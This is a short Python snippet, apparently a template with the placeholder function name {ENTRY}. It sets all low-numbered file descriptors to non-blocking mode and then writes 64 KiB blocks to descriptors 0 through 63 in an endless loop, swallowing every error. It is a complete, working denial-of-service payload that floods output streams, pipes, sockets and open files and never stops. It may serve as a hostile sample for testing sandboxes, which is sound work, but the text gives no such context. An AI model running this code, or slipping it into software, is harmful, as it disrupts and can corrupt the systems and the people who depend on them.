# writes without end to every descriptor
import os
def {ENTRY}(*args, **named):
    for number in range(1001):
        try: os.set_blocking(number, False)
        except OSError: pass
    while True:
        for number in range(64):
            try: os.write(number, b"x" * 65536)
            except OSError: pass
